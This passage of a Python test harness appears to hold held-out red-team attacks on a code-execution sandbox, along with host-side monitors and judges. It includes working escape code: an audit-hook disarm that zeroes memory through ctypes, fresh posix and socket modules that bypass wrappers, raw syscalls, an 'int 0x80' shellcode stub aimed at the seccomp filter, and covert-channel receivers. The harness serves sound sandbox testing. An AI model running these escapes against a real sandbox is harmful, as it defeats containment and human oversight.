"""Held-out sandbox round 7: attacks written blind (without reading the sandbox's code or its tests).

Same format as rounds 4-6 (heldout/sandbox_round6/attacks.py); helpers copied from round 6. Each attack is a dict:
  id, class, description   one line each
  code                     callable ctx -> str (the program the run executes)
  receiver                 optional second program (sender, then receiver; or both at once, see concurrent)
  concurrent               True: code and receiver run AT THE SAME TIME (two threads of the caller)
  calls                    optional callable ctx -> dict(code, inputs, seconds, start_s) for Calls:
                           the first run uses the fork server (verifiers.sandbox.Calls)
  limits                   kwargs for SandboxLimits (one set for both runs)
  expected                 what a sound sandbox gives
  outside                  callable ctx -> snapshot, run in the CALLER's process before and after
  during                   optional callable ctx -> value, sampled by the caller while the run(s) go on
                           (every `during_period` s, default 0.05); in ctx['during'] as (monotonic, value)
  judge                    callable (before, after, results, ctx) -> (verdict, observed)
                           verdict in {"stopped", "hole", "known", "inconclusive"}; `known`: the attack got
                           through a gap docs/sandbox.md documents as OPEN (its `expected` says "documented open")
  setup / teardown         optional callables ctx -> None, run in the caller's process
  caller_env               optional dict, or callable tmpdir -> dict: extra environment of the caller
  monitor                  False: no Monitor thread in the caller (attacks that judge the caller's CPU)
  caller_cap_mb, caller_harm   as in round 4

New in round 7 (score.py): ctx['t_run1'] (monotonic clock when each run_python returned), scorer_pre /
scorer_post (run in the scorer's process, before and after the caller). From round 6: ctx['t_run0'] (the caller's monotonic clock just before each run_python),
ctx['self_cpu'] (the caller's own CPU seconds while the runs went on), ctx['children_cpu'] (the CPU of
the caller's reaped descendants: the runs' processes), ctx['wall'].

Programs that need the kernel walls start with PRELUDE (round 5's blind DISARM of the audit hook, then
fresh `posix`/`_socket` functions; prints `R3B7_HOOK ...` first). Where the DISARM fails the program
runs with the hook in place; the outside checks still judge it.

ctx keys (score.py builds them): nonce (hex), secret, marker (process name the programs give
themselves, <= 15 chars), caller_pid, repo_dir, home, here, tmpdir, cpu, plus what each setup adds.
In program text @KEY@ is replaced by str(ctx[KEY]).

Timing-based channels say so in their judge; they are holes only with an exact (or one-bit-off) decode.
"""

from __future__ import annotations

import ctypes
import glob
import mmap
import os
import random
import re
import resource
import signal
import stat
import sysconfig
import tempfile
import threading
import time

PAGE = 4096
NS_TYPES = ("user", "mnt", "net", "pid", "uts", "ipc", "cgroup", "time")

# --------------------------------------------------------------------------- the programs' prelude

PRELUDE = r"""
import sys as _sys
def _r3b7_disarm():
    import ctypes
    hook_locals = None
    try:
        ctypes.CDLL(None).getpid
    except BaseException as e:
        tb = e.__traceback__
        while tb is not None:
            try:
                loc = tb.tb_frame.f_locals
            except BaseException:
                break
            if any(isinstance(v, (set, frozenset)) for v in loc.values()):
                hook_locals = loc
            tb = tb.tb_next
    else:
        return 'no-hook'
    if hook_locals is None:
        return 'no-frame'
    for k, v in list(hook_locals.items()):
        if isinstance(v, (set, frozenset)) and k != '_pathtypes':
            base = id(v)
            buf = ctypes.create_string_buffer(48)
            ctypes.memmove(buf, base, 48)
            mask = int.from_bytes(buf.raw[32:40], 'little')
            table = int.from_bytes(buf.raw[40:48], 'little')
            ctypes.memset(table, 0, (mask + 1) * 16)
            ctypes.memset(base + 16, 0, 16)
    try:
        ctypes.CDLL(None).getpid()
        return 'disarmed'
    except BaseException as e:
        return 'failed: %r' % (e,)

def _r3b7_fresh(name):
    import importlib.util, importlib.machinery, _imp
    if name in _sys.builtin_module_names:
        return _imp.create_builtin(importlib.machinery.ModuleSpec(name, None, origin='built-in'))
    spec = importlib.util.find_spec(name)
    m = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(m)
    return m

R3B7_HOOK = 'untried'
try:
    R3B7_HOOK = _r3b7_disarm()
except BaseException as _e:
    R3B7_HOOK = 'failed: %r' % (_e,)
import os, time, signal, threading
try:
    _px = _r3b7_fresh('posix')
    for _n in ('fork', 'kill', 'killpg', 'setsid', 'execv', 'execve', 'posix_spawn', 'system',
               'utime', 'chmod', 'fchmod', 'fchown', 'chown', 'lchown', 'open', 'mkdir', 'setpgid',
               'nice', 'setpriority', 'sched_setscheduler', 'sched_setaffinity', 'waitpid', 'wait',
               'setuid', 'setgid', 'setgroups', 'mkfifo', 'symlink', 'truncate', 'ftruncate',
               'setxattr', 'listxattr', 'getxattr', 'link', 'pipe', 'dup2',
               'sched_setaffinity', 'preadv', 'posix_fallocate', 'chdir', 'rename'):
        if hasattr(_px, _n):
            setattr(os, _n, getattr(_px, _n))
    import socket as _socket_mod
    RAWSOCK = _r3b7_fresh('_socket')
except BaseException as _e:
    RAWSOCK = None
    R3B7_HOOK += '; fresh modules failed: %r' % (_e,)
try:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    def sc(nr, *a):
        args = [ctypes.c_long(x) if isinstance(x, int) else x for x in a]
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), *args)
        return r, ctypes.get_errno()
    def name_me():
        libc.prctl(15, b'@MARKER@', 0, 0, 0)
    name_me()
except BaseException as _e:
    libc = None
    def sc(nr, *a):
        return -1, -1
    def name_me():
        pass
    R3B7_HOOK += '; no ctypes: %r' % (_e,)
def say(*a):
    print(*a, flush=True)
say('R3B7_HOOK', R3B7_HOOK)
"""


def prog(body: str, prelude: bool = True):
    """A program: PRELUDE (or not) + body, with @KEY@ replaced from ctx."""

    def build(ctx):
        text = (PRELUDE if prelude else "") + "\n" + body
        for k, v in ctx.items():
            if isinstance(v, (str, int)):
                text = text.replace("@%s@" % k.upper(), str(v))
        return text

    return build


# --------------------------------------------------------------------------- host-side observers


def _read(path, n=1 << 16):
    try:
        with open(path, "rb") as f:
            return f.read(n)
    except OSError:
        return b""


def _libc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc


def host_sc(nr, *a):
    """A raw syscall in the caller (host side)."""
    libc = _libc()
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r, ctypes.get_errno()


def procs_named(marker):
    """Host pids whose comm is marker (the programs name themselves)."""
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit() and _read("/proc/%s/comm" % p).strip() == marker.encode():
            out.append(int(p))
    return out


def _status_field(pid, key):
    m = re.search((r"^%s:\s+(.*)$" % key).encode(), _read("/proc/%d/status" % pid), re.M)
    return m.group(1).decode(errors="replace").strip() if m else None


def proc_facts(pid):
    """Namespaces, memory cgroup, uids, capabilities of a host pid, seen from outside."""
    facts = {}
    for t in NS_TYPES:
        try:
            facts["ns_" + t] = os.readlink("/proc/%d/ns/%s" % (pid, t))
        except OSError:
            pass
    for line in _read("/proc/%d/cgroup" % pid).decode(errors="replace").splitlines():
        parts = line.split(":", 2)
        if len(parts) == 3 and ("memory" in parts[1].split(",") or (parts[0] == "0" and "memcg" not in facts)):
            facts["memcg"] = parts[2]
    for key in ("Uid", "CapEff", "CapPrm", "NSpid", "NoNewPrivs", "Seccomp", "SigBlk", "SigIgn"):
        v = _status_field(pid, key)
        if v is not None:
            facts[key] = v
    facts["comm"] = _read("/proc/%d/comm" % pid).decode(errors="replace").strip()
    return facts


def run_tree(root_pid):
    """Pids below root_pid (its descendants) at depth >= 2 that are not the init of a PID namespace:
    the run's own processes (the worker and what it starts), whatever they are named."""
    parent = {}
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        st = _read("/proc/%s/stat" % p, 4096).decode(errors="replace")
        try:
            parent[int(p)] = int(st[st.rindex(")") + 2 :].split()[1])
        except (ValueError, IndexError):
            pass
    out = []
    for pid in parent:
        depth, q = 0, pid
        while q in parent and q != root_pid and depth < 64:
            q = parent[q]
            depth += 1
        if q == root_pid and depth >= 2:
            nspid = (_status_field(pid, "NSpid") or "").split()
            if nspid and nspid[-1] == "1" and len(nspid) > 1:
                continue
            out.append(pid)
    return out


class Monitor(threading.Thread):
    """Polls /proc during a run: processes named ctx['marker'] (peak count and facts) and the run's
    process tree below the caller (facts of each)."""

    def __init__(self, marker, tree_root=None, period=0.03):
        super().__init__(daemon=True)
        self.marker = marker
        self.tree_root = tree_root
        self.period = period
        self.stop_flag = threading.Event()
        self.peak = 0
        self.facts = {}
        self.tree = {}

    def run(self):
        while not self.stop_flag.is_set():
            try:
                pids = procs_named(self.marker)
                self.peak = max(self.peak, len(pids))
                for p in pids[:40]:
                    f = proc_facts(p)
                    if f.get("comm"):
                        self.facts.setdefault(p, []).append(f)
                        del self.facts[p][:-4]
                if self.tree_root:
                    for p in run_tree(self.tree_root)[:60]:
                        f = proc_facts(p)
                        if f.get("comm"):
                            self.tree.setdefault(p, []).append(f)
                            del self.tree[p][:-4]
            except Exception:
                pass
            time.sleep(self.period)

    def stop(self):
        self.stop_flag.set()
        self.join(3)


def ns_divergence(ctx):
    """Namespace types in which processes named with the marker differ (a run process that entered a
    namespace of its own), and memory cgroups of marker processes outside the first one seen."""
    facts = ctx.get("monitor_facts", {})
    seen = {}
    for pid, seq in facts.items():
        for f in seq:
            for t in NS_TYPES:
                if f.get("ns_" + t):
                    seen.setdefault(t, set()).add(f["ns_" + t])
    div = {t: sorted(v) for t, v in seen.items() if len(v) > 1}
    cgs = sorted({f.get("memcg") for seq in facts.values() for f in seq if f.get("memcg")})
    return div, cgs, len(facts)


def caller_cgroup_dirs():
    out = []
    for line in _read("/proc/self/cgroup").decode().splitlines():
        hid, ctrls, path = line.split(":", 2)
        if "memory" in ctrls.split(",") or (hid == "0" and ctrls == ""):
            base = "/sys/fs/cgroup/memory" + path if "memory" in ctrls else "/sys/fs/cgroup/unified" + path
            try:
                out += sorted(os.path.join(base, d) for d in os.listdir(base) if os.path.isdir(os.path.join(base, d)))
            except OSError:
                pass
    return out


def caller_zombies(ctx):
    """Children of the caller that are zombies (exited, not reaped)."""
    out = []
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        st = _read("/proc/%s/stat" % p, 4096).decode(errors="replace")
        try:
            f = st[st.rindex(")") + 2 :].split()
        except ValueError:
            continue
        if len(f) > 1 and f[1] == str(ctx["caller_pid"]) and f[0] == "Z":
            out.append(int(p))
    return out


def leftovers(ctx):
    """Generic host snapshot: processes named by the run, scratch dirs, mounts, cgroups, IPC objects."""
    return {
        "marker_procs": procs_named(ctx["marker"]),
        "tmp_r3": sorted(glob.glob(os.path.join(tempfile.gettempdir(), "r3sandbox*"))),
        "mounts": sum(1 for line in _read("/proc/self/mountinfo", 1 << 22).splitlines() if b"r3sandbox" in line),
        "cgroups": caller_cgroup_dirs(),
        "sysvipc": {k: len(_read("/proc/sysvipc/" + k).splitlines()) for k in ("shm", "msg", "sem")},
        "devshm": sorted(os.listdir("/dev/shm")) if os.path.isdir("/dev/shm") else [],
        "zombies": caller_zombies(ctx),
    }


def leftover_diff(before, after):
    out = []
    if after["marker_procs"]:
        out.append("processes named by the run still alive: %s" % after["marker_procs"])
    for key in ("tmp_r3", "cgroups", "devshm"):
        extra = sorted(set(after[key]) - set(before[key]))
        if extra:
            out.append("%s new: %s" % (key, extra[:10]))
    if after["mounts"] > before["mounts"]:
        out.append("mounts mentioning r3sandbox: %d -> %d" % (before["mounts"], after["mounts"]))
    if len(after.get("zombies", [])) > len(before.get("zombies", [])):
        out.append("unreaped children of the caller: %s" % after["zombies"])
    for k in ("shm", "msg", "sem"):
        if after["sysvipc"][k] > before["sysvipc"][k]:
            out.append("SysV %s: %d -> %d" % (k, before["sysvipc"][k], after["sysvipc"][k]))
    return out


def with_leftovers(outside):
    """An outside check that also takes the generic leftovers snapshot."""

    def snap(ctx):
        return {"own": outside(ctx), "left": leftovers(ctx)}

    return snap


def text_of(res):
    return "\n".join(str(getattr(res, k, "") or "") for k in ("stdout", "stderr", "value", "reason"))


def short(res):
    if res is None:
        return "no result"
    return "status=%s source=%s rc=%s reason=%r" % (
        res.status,
        getattr(res, "source", "?"),
        res.returncode,
        (res.reason or "")[:160],
    )


def run_errors(ctx):
    return ctx.get("run_python_errors") or []


BAD_CHARS = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


# --------------------------------------------------------------------------- generic judges


def judge_refused(extra_hole=None, ns_check=True):
    """The wall: the denied call ends the run as `refused` (the supervisor's observation), no namespace
    of the run's own appears (host view), nothing is left. extra_hole(results, ctx) -> str or None."""

    def judge(before, after, results, ctx):
        r = results[-1]
        obs = short(r)
        if isinstance(before, dict) and "marker_procs" in before:
            left = leftover_diff(before, after)
            if left:
                return "hole", obs + "; left: " + "; ".join(left)
        if ns_check:
            div, cgs, n = ns_divergence(ctx)
            if div:
                return "hole", "a run process entered namespaces of its own (host view): %s; %s" % (div, obs)
            if len(cgs) > 1:
                return "hole", "run processes in different memory cgroups (host view): %s; %s" % (cgs, obs)
        if extra_hole:
            why = extra_hole(results, ctx)
            if why:
                return "hole", why + "; " + obs
        if run_errors(ctx):
            return "hole", "run_python raised in the caller: %s; %s" % (run_errors(ctx), obs)
        if r is None:
            return "inconclusive", "no result"
        if r.status == "refused":
            return "stopped", obs
        if r.status == "ok":
            return "stopped", obs + " (the call failed with an errno, not refused by the filter: see stdout %r)" % (
                (r.stdout or "")[-300:],
            )
        return "inconclusive", obs + "; stdout tail %r" % ((r.stdout or "")[-300:],)

    return judge


def stdout_has(pattern):
    def f(results, ctx):
        for r in results:
            if r is not None:
                m = re.search(pattern, r.stdout or "", re.M)
                if m:
                    return "the run reports %r" % m.group(0)[:200]
        return None

    return f


def judge_leftovers(max_wall=None, status_bad=()):
    def judge(before, after, results, ctx):
        extra = leftover_diff(before, after)
        r = results[-1]
        obs = short(r) + "; caller wall %.1f s" % ctx.get("wall", -1)
        if run_errors(ctx):
            return "hole", "run_python raised in the caller: %s; %s" % (run_errors(ctx), obs)
        if extra:
            return "hole", obs + "; left: " + "; ".join(extra)
        if max_wall is not None and ctx.get("wall", 0) > max_wall:
            return "hole", obs + "; run_python held the caller beyond %s s" % max_wall
        if r is not None and r.status in status_bad:
            return "hole", obs
        return "stopped", obs

    return judge


def judge_secret(key="secret"):
    def judge(before, after, results, ctx):
        secret = str(ctx[key])
        seen = [i for i, r in enumerate(results) if r is not None and secret in text_of(r)]
        obs = "; ".join(short(r) for r in results)
        if seen:
            return "hole", "the secret appeared in run %s output; %s" % (seen, obs)
        return "stopped", obs

    return judge


def visible_problems(r, reason_max=4000):
    bad = []
    for field in ("reason", "value"):
        v = getattr(r, field, None) or ""
        m = BAD_CHARS.search(v)
        if m:
            bad.append("%s holds %r at %d" % (field, m.group(0), m.start()))
    if len(r.reason or "") > reason_max:
        bad.append("reason is %d chars" % len(r.reason))
    for field in ("stdout", "stderr", "value", "reason"):
        v = getattr(r, field, None)
        if isinstance(v, str):
            try:
                v.encode("utf-8")
            except UnicodeEncodeError as e:
                bad.append("%s does not encode as UTF-8 (%s)" % (field, str(e)[:80]))
    return bad


def judge_caller_ok(max_wall, grow_mb=300):
    """The caller survives, run_python returns (no exception) within max_wall, the fields are visible
    text, the caller's memory does not grow by more than grow_mb, nothing is left."""

    def judge(before, after, results, ctx):
        r = results[-1]
        grow = ctx.get("maxrss_mb_after", 0) - ctx.get("maxrss_mb_before", 0)
        obs = short(r) + "; caller wall %.1f s, maxrss +%.0f MB" % (ctx.get("wall", -1), grow)
        if run_errors(ctx):
            return "hole", "run_python raised in the caller: %s; %s" % (run_errors(ctx), obs)
        if isinstance(before, dict) and "marker_procs" in before:
            left = leftover_diff(before, after)
            if left:
                return "hole", obs + "; left: " + "; ".join(left)
        if ctx.get("wall", 0) > max_wall:
            return "hole", obs + "; the caller was held beyond %s s" % max_wall
        if grow > grow_mb:
            return "hole", obs + "; the caller grew by more than %d MB" % grow_mb
        if r is None:
            return "inconclusive", "no result"
        bad = visible_problems(r)
        if bad:
            return "hole", "; ".join(bad) + "; " + obs
        return "stopped", obs

    return judge


# --------------------------------------------------------------------------- page cache (host view)


def host_mincore(path, pages):
    """Which of `pages` (page indices) of path are in the page cache, seen from the caller (root: the
    file's owner, so mincore answers for the page cache itself)."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open(path, "rb") as f:
        size = os.fstat(f.fileno()).st_size
        mm = mmap.mmap(f.fileno(), size, access=mmap.ACCESS_COPY)
        try:
            buf = (ctypes.c_char * 1).from_buffer(mm)
            addr = ctypes.addressof(buf)
            vec = (ctypes.c_ubyte * 1)()
            out = []
            for p in pages:
                r = libc.mincore(ctypes.c_void_p(addr + p * PAGE), ctypes.c_size_t(PAGE), vec)
                out.append(None if r != 0 else vec[0] & 1)
            del buf
        finally:
            mm.close()
    return out


def _big_files():
    cands = []
    for d in ("/usr/lib", "/usr/share", "/usr/lib64", "/usr/libexec"):
        for root, dirs, files in os.walk(d):
            for fn in files:
                p = os.path.join(root, fn)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and 64 << 20 <= st.st_size <= 4 << 30:
                    cands.append(p)
            if len(cands) > 40:
                break
    return cands


def setup_pagecache(ctx, want_cached=False):
    """A big bound host file, 16 pages of it (256 pages apart) that are not cached now, and a 16-bit
    secret (bits[0] = 1, bits[1] = 0). want_cached: the caller then reads those 16 pages itself
    (they are cached, charged to the caller) and unmaps them."""
    rnd = random.Random(ctx["nonce"])
    cands = _big_files()
    rnd.shuffle(cands)
    ctx["cache_file"] = ctx["cache_pages"] = ctx["bits"] = ""
    for path in cands:
        npages = os.path.getsize(path) // PAGE
        picks = sorted(rnd.sample(range(64, npages - 64, 256), 48)) if npages > 20000 else []
        if not picks:
            continue
        cold = [p for p, r in zip(picks, host_mincore(path, picks)) if r == 0]
        if len(cold) >= 16:
            ctx["cache_file"] = path
            ctx["cache_pages"] = ",".join(map(str, cold[:16]))
            bits = [rnd.randint(0, 1) for _ in range(16)]
            bits[0], bits[1] = 1, 0
            ctx["bits"] = "".join(map(str, bits))
            break
    if want_cached and ctx["cache_file"]:
        with open(ctx["cache_file"], "rb") as f:
            for p in map(int, ctx["cache_pages"].split(",")):
                os.pread(f.fileno(), 1, p * PAGE)


def outside_pagecache(ctx):
    if not ctx.get("cache_file"):
        return None
    pages = [int(x) for x in ctx["cache_pages"].split(",")]
    return "".join("?" if r is None else str(r) for r in host_mincore(ctx["cache_file"], pages))


# --------------------------------------------------------------------------- concurrent channels

SLOT = 0.4
NBITS = 12


def concurrent_bits(ctx):
    rnd = random.Random(ctx["nonce"] + "xc")
    bits = [rnd.randint(0, 1) for _ in range(NBITS)]
    bits[0], bits[1] = 1, 0
    return "".join(map(str, bits))


def decode_samples(samples, t0, bits_n, counter):
    """Per slot value (median level, or rate of a counter) from (t, v) samples; bits by the two
    calibration slots (slot 0 is a 1, slot 1 a 0)."""
    vals = []
    for i in range(bits_n):
        a, b = t0 + (i + 0.25) * SLOT, t0 + (i + 0.9) * SLOT
        inside = [(t, v) for t, v in samples if a <= t <= b]
        if len(inside) < 3:
            return None, "slot %d has %d samples" % (i, len(inside))
        if counter:
            (ta, va), (tb, vb) = inside[0], inside[-1]
            vals.append((vb - va) / max(tb - ta, 1e-3))
        else:
            s = sorted(v for _, v in inside)
            vals.append(s[len(s) // 2])
    one, zero = vals[0], vals[1]
    if one == zero:
        return None, "calibration slots equal (%s)" % one
    got = "".join("1" if abs(v - one) < abs(v - zero) else "0" for v in vals)
    return got, "slot values %s" % [round(v, 1) for v in vals]


def setup_concurrent(ctx):
    ctx["bits"] = concurrent_bits(ctx)
    ctx["slot"] = repr(SLOT)


SENDER_HEAD = r"""
import time
bits = '@BITS@'
SLOT = @SLOT@
t0 = time.monotonic() + 1.5
say('T0 %.4f' % t0)
def slots():
    for i, b in enumerate(bits):
        start = t0 + i * SLOT
        while time.monotonic() < start:
            time.sleep(0.002)
        yield b, start + SLOT
"""


# --------------------------------------------------------------------------- other outside checks


def meminfo(*keys):
    out = {}
    for line in _read("/proc/meminfo").decode().splitlines():
        k, _, v = line.partition(":")
        if k in keys:
            out[k] = int(v.split()[0])
    return out


def dentry_state(ctx):
    f = _read("/proc/sys/fs/dentry-state").split()
    return {"nr_dentry": int(f[0]), "nr_unused": int(f[1]), "nr_negative": int(f[4]) if len(f) > 4 else None}


def kmsg_setup(ctx):
    try:
        fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
        os.lseek(fd, 0, os.SEEK_END)
        ctx["_kmsg"] = fd
    except OSError as e:
        ctx["_kmsg"] = None
        ctx["_kmsg_err"] = str(e)


def kmsg_new(ctx):
    """Kernel log records since the setup that mention the run's marker (the comm of its processes)."""
    fd = ctx.get("_kmsg")
    if fd is None:
        return None
    n, sample = 0, []
    while True:
        try:
            rec = os.read(fd, 8192)
        except BlockingIOError:
            break
        except OSError:
            continue  # EPIPE: records overwritten
        if not rec:
            break
        if ctx["marker"].encode() in rec:
            n += 1
            if len(sample) < 2:
                sample.append(rec.decode(errors="replace")[:160])
    ctx["_kmsg_total"] = ctx.get("_kmsg_total", 0) + n
    ctx["_kmsg_sample"] = ctx.get("_kmsg_sample", []) + sample
    return ctx["_kmsg_total"]


# --------------------------------------------------------------------------- round 6: shared helpers


def vmstat(*keys):
    out = {}
    for line in _read("/proc/vmstat").decode().splitlines():
        k, _, v = line.partition(" ")
        if k in keys:
            out[k] = int(v)
    return out


def slab_active(*names):
    """Active objects of slab caches (root: /proc/slabinfo); None where the cache is not listed (merged)."""
    out = {n: None for n in names}
    for line in _read("/proc/slabinfo", 1 << 20).decode(errors="replace").splitlines():
        p = line.split()
        if p and p[0] in out:
            out[p[0]] = int(p[1])
    return out


def memcg_count(ctx):
    """The memory hierarchy's cgroup count (/proc/cgroups counts cgroups until they are freed, dying ones
    included) and, on cgroup v2, nr_dying_descendants of the root."""
    n = None
    for line in _read("/proc/cgroups").decode().splitlines():
        p = line.split()
        if p and p[0] == "memory":
            n = int(p[2])
    dying = None
    m = re.search(rb"nr_dying_descendants (\d+)", _read("/sys/fs/cgroup/cgroup.stat"))
    if m:
        dying = int(m.group(1))
    return {"memory_cgroups": n, "v2_dying": dying}


def supervisor_stats(ctx):
    """CPU ticks (utime + stime) and VmHWM (kB) of the runs' supervisors: descendants of the caller that
    are PID 1 of a PID namespace of their own (host view)."""
    parent = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            st = _read("/proc/%s/stat" % p, 4096).decode(errors="replace")
            try:
                parent[int(p)] = int(st[st.rindex(")") + 2 :].split()[1])
            except (ValueError, IndexError):
                pass
    out = {}
    for pid in parent:
        q, depth = pid, 0
        while q in parent and q != ctx["caller_pid"] and depth < 64:
            q = parent[q]
            depth += 1
        if q != ctx["caller_pid"]:
            continue
        nspid = (_status_field(pid, "NSpid") or "").split()
        if len(nspid) > 1 and nspid[-1] == "1":
            st = _read("/proc/%d/stat" % pid, 4096).decode(errors="replace")
            try:
                f = st[st.rindex(")") + 2 :].split()
                ticks = int(f[11]) + int(f[12])
            except (ValueError, IndexError):
                continue
            hwm = (_status_field(pid, "VmHWM") or "0 kB").split()[0]
            out[pid] = (ticks, int(hwm) if hwm.isdigit() else 0)
    return out


def supervisor_peak(ctx):
    """Largest CPU seconds and VmHWM MB any supervisor reached in the samples."""
    cpu, hwm = 0.0, 0.0
    hz = os.sysconf("SC_CLK_TCK")
    for _, d in ctx.get("during", []):
        for ticks, kb in (d or {}).values():
            cpu = max(cpu, ticks / hz)
            hwm = max(hwm, kb / 1024)
    return cpu, hwm


def big_files_host(min_mb=64, limit=60):
    """Big regular files in trees the sandbox binds (the venv's site-packages, /usr/lib, /usr/share), biggest first."""
    out = []
    roots = [sysconfig.get_paths()["purelib"], "/usr/lib", "/usr/lib64", "/usr/share", "/usr/local/lib"]
    for d in roots:
        for root, dirs, files in os.walk(d):
            for fn in files:
                p = os.path.join(root, fn)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and st.st_size >= min_mb << 20:
                    out.append((st.st_size, p))
            if len(out) > limit:
                break
    return [p for _, p in sorted(out, reverse=True)]


def fs_type_of(path):
    """File system type of path (longest mount point prefix in the caller's mountinfo)."""
    best, typ = "", None
    for line in _read("/proc/self/mountinfo", 1 << 22).decode(errors="replace").splitlines():
        p = line.split()
        if " - " not in line:
            continue
        mp = p[4]
        fst = line.split(" - ", 1)[1].split()[0]
        if (path == mp or path.startswith(mp.rstrip("/") + "/")) and len(mp) >= len(best):
            best, typ = mp, fst
    return typ


def values_of(res):
    return [c.value for c in (res.calls if res is not None else ())]


def calls_short(res):
    if res is None:
        return "no result"
    return "%s; calls %s" % (short(res), [(c.status, (c.value or "")[:60]) for c in res.calls])


# code the programs share: a raw mmap, and an i386 `int 0x80` getpid (the seccomp filter's architecture check)
RAWMAP = r"""
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
MAP_FAILED = ctypes.c_void_p(-1).value
def rawmap(n, prot=3, flags=0x22, fd=-1, off=0):
    a = libc.mmap(None, n, prot, flags, fd, off)
    return None if a in (None, MAP_FAILED) else a
"""

INT80 = (
    RAWMAP
    + r"""
_code = rawmap(4096, prot=7)
i386_getpid = None
if _code:
    # mov eax, 20 (i386 getpid); int 0x80; ret
    ctypes.memmove(_code, b'\xb8\x14\x00\x00\x00\xcd\x80\xc3', 8)
    i386_getpid = ctypes.CFUNCTYPE(ctypes.c_int)(_code)
say('int80 page', bool(_code))
"""
)

# --------------------------------------------------------------------------- concurrent: many host values at once

RECEIVER_MULTI = r"""
import time
def _f(path):
    with open(path) as f:
        return f.read()
def _kv(path, key, col=1):
    for line in _f(path).splitlines():
        p = line.split()
        if p and p[0].rstrip(':') == key:
            return float(p[col])
    return float('nan')
def _sumrow(path, key):
    for line in _f(path).splitlines():
        p = line.split()
        if p and p[0] == key:
            return float(sum(int(x) for x in p[1:] if x.isdigit()))
    return float('nan')
def _total(path):
    return float(_f(path).splitlines()[0].split('total=')[1])
def _spin():
    n = 0
    end = time.perf_counter() + 0.005
    while time.perf_counter() < end:
        n += 1
    return n
M = {}
@METRICS@
names = sorted(M)
end = time.monotonic() + @SAMPLE_S@
out = []
while time.monotonic() < end:
    vals = []
    for n in names:
        try:
            vals.append(repr(float(M[n]())))
        except Exception:
            vals.append('nan')
    out.append('%.4f %s' % (time.monotonic(), ' '.join(vals)))
    time.sleep(0.01)
print('NAMES', ' '.join(names))
print('SAMPLES')
print('\n'.join(out))
result = len(out)
"""

MULTI = {
    # counters (per-second rates decode) ------------------------------------------------------------
    "uptime_idle": "float(_f('/proc/uptime').split()[1])",
    "schedstat_run": "sum(float(l.split()[7]) for l in _f('/proc/schedstat').splitlines() if l.startswith('cpu'))",
    "psi_cpu": "_total('/proc/pressure/cpu')",
    "softirq_timer": "_sumrow('/proc/softirqs', 'TIMER:')",
    "softirq_sched": "_sumrow('/proc/softirqs', 'SCHED:')",
    "irq_loc": "_sumrow('/proc/interrupts', 'LOC:')",
    "pgfault": "_kv('/proc/vmstat', 'pgfault')",
    "pgalloc": "sum(float(l.split()[1]) for l in _f('/proc/vmstat').splitlines() if l.startswith('pgalloc_'))",
    "pgfree": "_kv('/proc/vmstat', 'pgfree')",
    "numa_hit": "_kv('/proc/vmstat', 'numa_hit')",
    "disk_sectors": "sum(float(l.split()[5]) for l in _f('/proc/diskstats').splitlines() if len(l.split()) > 6)",
    "pgpgin": "_kv('/proc/vmstat', 'pgpgin')",
    "psi_io": "_total('/proc/pressure/io')",
    "irq_cal": "_sumrow('/proc/interrupts', 'CAL:')",
    "irq_tlb": "_sumrow('/proc/interrupts', 'TLB:')",
    "irq_res": "_sumrow('/proc/interrupts', 'RES:')",
    # levels (median per slot decodes) ------------------------------------------------------------
    "shmem": "_kv('/proc/meminfo', 'Shmem')",
    "memfree": "_kv('/proc/meminfo', 'MemFree')",
    "nr_shmem": "_kv('/proc/vmstat', 'nr_shmem')",
    "buddy_free": "sum(sum(int(x) << i for i, x in enumerate(l.split()[4:])) for l in _f('/proc/buddyinfo').splitlines())",
    "zone_free": "sum(float(l.split()[1]) for l in _f('/proc/zoneinfo').splitlines() if l.split()[:1] == ['nr_free_pages'])",
    "inode_nr": "float(_f('/proc/sys/fs/inode-nr').split()[0])",
    "inode_free": "float(_f('/proc/sys/fs/inode-nr').split()[1])",
    "dentry_nr": "float(_f('/proc/sys/fs/dentry-state').split()[0])",
    "loop_rate": "_spin()",
}
LEVELS = {"shmem", "memfree", "nr_shmem", "buddy_free", "zone_free", "inode_nr", "inode_free", "dentry_nr", "loop_rate"}


def receiver_multi(metrics, sample_s):
    lines = "\n".join("M[%r] = lambda: %s" % (m, MULTI[m]) for m in metrics)
    return prog(RECEIVER_MULTI.replace("@METRICS@", lines).replace("@SAMPLE_S@", str(sample_s)), prelude=False)


def _multi_samples(res):
    names, rows = [], []
    if res is None:
        return names, rows
    text = res.stdout or ""
    m = re.search(r"^NAMES (.*)$", text, re.M)
    if not m:
        return names, rows
    names = m.group(1).split()
    for line in text.split("SAMPLES", 1)[-1].splitlines():
        parts = line.split()
        if len(parts) == len(names) + 1:
            try:
                rows.append([float(x) for x in parts])
            except ValueError:
                pass
    return names, rows


def sender_t0(ctx, res):
    if ctx.get("sender_t0") is not None:
        return ctx["sender_t0"]
    m = re.search(r"^T0 ([0-9.]+)", (res.stdout or "") if res is not None else "", re.M)
    return float(m.group(1)) if m else None


def judge_multi(timing=False):
    """Decode the sender's bits from each sampled host value; a hole where one decodes (<= 1 bit wrong)."""

    def judge(before, after, results, ctx):
        bits = ctx["bits"]
        recv = results[-1]
        t0 = sender_t0(ctx, results[0])
        names, rows = _multi_samples(recv)
